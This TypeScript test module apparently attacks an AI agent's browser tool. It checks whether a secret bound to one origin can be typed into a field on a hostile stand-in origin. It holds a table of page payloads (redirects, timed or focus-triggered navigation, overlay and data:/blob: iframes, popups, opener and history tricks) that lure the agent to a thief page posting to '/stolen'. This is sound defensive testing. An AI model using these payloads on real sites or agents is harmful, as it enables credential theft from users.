import { boundTo, written } from '../../shared/testing/sealed.ts';
import { thief } from '../../electron/tools/browser/testing/hostile-sites.ts';
import { clear, script, stolen, type Attack, type Pick, type Stage } from './attack.ts';

const disguises: Readonly<
  Record<string, (at: { own: string; evil: string; trap: string }, pick: Pick) => string>
> = {
  'a redirect': ({ evil }) => script(`location = '/to/' + encodeURIComponent('${evil}/login');`),
  'a page that leaves late': ({ evil }, pick) =>
    `<label>Password <input id="p"></label>${script(`setTimeout(() => { location = '${evil}/login'; }, ${pick([0, 20, 60, 120, 250, 400, 800])});`)}`,
  'a page that leaves when the field is touched': ({ evil }, pick) =>
    `<label>Password <input id="p"></label>${script(`p.${pick(['onfocus', 'oninput', 'onkeydown', 'onpointerdown', 'onchange'])} = () => { location = '${evil}/login'; };`)}`,
  'an advert': ({ evil }) => `<iframe src="${evil}/login"></iframe>`,
  'an ad over the field': ({ evil }) =>
    `<label>Passwort <input id="q"></label><iframe src="${evil}/login" style="position:absolute;inset:0;width:100%;height:100%"></iframe>`,
  'a data: frame': ({ trap }) =>
    `<iframe id="f"></iframe>${script(`f.src = 'data:text/html,' + encodeURIComponent(${JSON.stringify(trap)});`)}`,
  'a blob: frame': ({ trap }) =>
    `<iframe id="f"></iframe>${script(`f.src = URL.createObjectURL(new Blob([${JSON.stringify(trap)}], { type: 'text/html' }));`)}`,
  'a frame that turns into data:': ({ evil }) => `<iframe src="${evil}/turns"></iframe>`,
  'a sandboxed frame': ({ trap }) =>
    `<iframe sandbox="allow-scripts allow-forms" id="f"></iframe>${script(`f.srcdoc = ${JSON.stringify(trap)};`)}`,
  'a nested frame': ({ evil }) =>
    `<iframe id="f"></iframe>${script(`f.srcdoc = '<iframe src="${evil}/login"></iframe>';`)}`,
  'a popup': ({ evil }) =>
    `<label>Password <input id="p"></label><button onclick="window.open('${evil}/login')">Help</button>`,
  'an opener that is sent away': ({ evil }) =>
    `<label>Password <input id="p"></label><button onclick="window.open('${evil}/opener')">Help</button>`,
  'a history entry': ({ evil }) =>
    `<label>Password <input id="p"></label>${script(`history.pushState(null, '', '/#1'); onpopstate = () => { location = '${evil}/login'; }; history.back();`)}`,
};

export const takeSecrets: Attack = {
  what: 'a step types a secret into a foreign field',
  async play(stage: Stage, pick) {
    clear(stage);
    const { browser, own, evil, secret } = stage;
    const trap = thief.replaceAll('"/stolen"', `"${evil.url}/stolen"`);
    evil.show('/login', thief);
    evil.show(
      '/turns',
      script(`location = 'data:text/html,' + encodeURIComponent(${JSON.stringify(trap)});`),
    );
    evil.show('/opener', script(`opener.location = '${evil.url}/login';`));
    const disguise = pick(Object.keys(disguises));
    const body = disguises[disguise]?.({ own: own.url, evil: evil.url, trap }, pick) ?? '';
    own.show('/', body);
    const caller = browser.callerWith({ PW: secret }, boundTo(['PW'], { origins: [own.url] }));
    const call = async (tool: string, args: Parameters<typeof written>[0]) => {
      const found = caller.resolve('browser', tool);
      return found.ok
        ? caller.call(found.tool, written(args), new AbortController().signal, 5_000)
        : undefined;
    };
    await call('open_page', { url: own.url });
    if (body.includes('>Help<')) await call('click', { target: 'Help', timeoutMs: 1_000 });
    const where = pick([{ into: 'Password' }, { css: '#p' }, { css: 'input' }, {}]);
    const outcome = await call('type_text', {
      text: '${secrets.PW}',
      timeoutMs: 800,
      byKeys: pick([true, false]),
      submit: pick([true, false]),
      ...where,
    });
    const got = await stolen(stage, secret);
    if (got !== undefined) return `by ${disguise}, the stranger got ${got}`;
    return JSON.stringify(outcome).includes(secret)
      ? `by ${disguise}, the outcome shows it: ${JSON.stringify(outcome).slice(0, 300)}`
      : undefined;
  },
};
